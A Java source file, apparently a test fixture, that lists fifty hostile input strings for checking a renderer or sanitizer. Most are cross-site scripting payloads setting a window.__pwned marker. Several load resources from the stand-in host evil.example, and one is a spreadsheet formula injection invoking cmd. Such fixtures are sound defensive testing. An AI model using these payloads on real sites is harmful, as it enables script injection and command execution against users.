package io.voddelete.kit;

import java.util.List;

/** Texts that others could write to act in the browser of whoever reads them. Each would set {@code window.__pwned}, or worse. */
public final class HostileTexts {
    private static final String RUN = "window.__pwned=1";

    /** Fifty of them, in one line each. */
    public static final List<String> ALL = List.of(
            "<img src=x onerror=" + RUN + ">",
            "<script>" + RUN + "</script>",
            "\"><script>" + RUN + "</script>",
            "'><script>" + RUN + "</script>",
            "</textarea><script>" + RUN + "</script>",
            "</title><script>" + RUN + "</script>",
            "</script><script>" + RUN + "</script>",
            "<svg onload=" + RUN + ">",
            "<svg><script>" + RUN + "</script></svg>",
            "<svg><animate onbegin=" + RUN + " attributeName=x dur=1s>",
            "<math><mtext></mtext><mglyph><style><img src=x onerror=" + RUN + "></style></mglyph></math>",
            "<iframe srcdoc='<script>parent." + RUN + "</script>'></iframe>",
            "<iframe src=javascript:parent." + RUN + "></iframe>",
            "<object data=javascript:" + RUN + "></object>",
            "<embed src=javascript:" + RUN + ">",
            "<a href=javascript:" + RUN + ">open</a>",
            "<form action=javascript:" + RUN + "><button>go</button></form>",
            "<button formaction=javascript:" + RUN + ">go</button>",
            "<input autofocus onfocus=" + RUN + ">",
            "<select autofocus onfocus=" + RUN + ">",
            "<details open ontoggle=" + RUN + ">",
            "<video><source onerror=" + RUN + "></video>",
            "<audio src=x onerror=" + RUN + ">",
            "<body onload=" + RUN + ">",
            "<marquee onstart=" + RUN + ">",
            "<meta http-equiv=refresh content='0;url=javascript:" + RUN + "'>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<base href=//evil.example/>",
            "<style>@import '//evil.example/x.css'; * { display: none }</style>",
            "<template><img src=x onerror=" + RUN + "></template>",
            "<noscript><p title='</noscript><img src=x onerror=" + RUN + ">'>",
            "<!--><img src=x onerror=" + RUN + ">-->",
            "<![CDATA[><img src=x onerror=" + RUN + ">]]>",
            "<b onmouseover=" + RUN + " style=position:fixed;inset:0>hover</b>",
            "<x contenteditable onblur=" + RUN + " tabindex=1 autofocus>",
            "&lt;img src=x onerror=" + RUN + "&gt;",
            "&#60;script&#62;" + RUN + "&#60;/script&#62;",
            "javascript:" + RUN,
            "JaVaScRiPt:" + RUN + "//",
            "data:text/html,<script>parent." + RUN + "</script>",
            "\" onfocus=\"" + RUN + "\" autofocus=\"",
            "' onmouseover='" + RUN + "' x='",
            "` onclick=`" + RUN + "`",
            "${" + RUN + "}",
            "{{constructor.constructor('" + RUN + "')()}}",
            "__proto__",
            "constructor",
            "dangerouslySetInnerHTML",
            "#/sender?x=<img src=x onerror=" + RUN + ">",
            "=HYPERLINK(\"//evil.example\")+cmd|' /C calc'!A1");

    private HostileTexts() {}
}
